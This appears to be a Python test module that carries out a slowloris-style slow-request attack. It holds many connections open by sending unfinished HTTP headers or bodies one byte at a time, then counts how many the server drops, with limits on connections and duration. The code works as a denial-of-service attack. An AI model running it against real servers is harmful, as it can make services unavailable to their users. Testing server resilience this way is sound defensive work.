"""Connections whose requests never finish: they send a byte now and then."""

from __future__ import annotations

import contextlib
import time
from typing import Any

from tests.attacks.target import MOST_SECONDS, Target, allow_connections, hung_up, within

PAUSE = 0.25  # seconds between two bytes


def attack(target: Target, *, path: str, connections: int = 100, seconds: float = 4) -> dict[str, Any]:
    """Send requests slowly for this many seconds: in one half the headers never end, in the other the
    body.
    """
    allow_connections(connections)
    within(seconds, MOST_SECONDS)
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\n"
    begun = (head + "X-Slow: ", head + "Content-Length: 100000\r\n\r\n")
    with contextlib.ExitStack() as opened:
        callers = []
        for number in range(connections):
            with contextlib.suppress(OSError):
                callers.append(opened.enter_context(target.connect(timeout=1)))
                callers[-1].sendall(begun[number % 2].encode())
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            for caller in callers:
                with contextlib.suppress(OSError):
                    caller.sendall(b"x")
            time.sleep(PAUSE)
        return {"opened": len(callers), "hung up": hung_up(callers)}
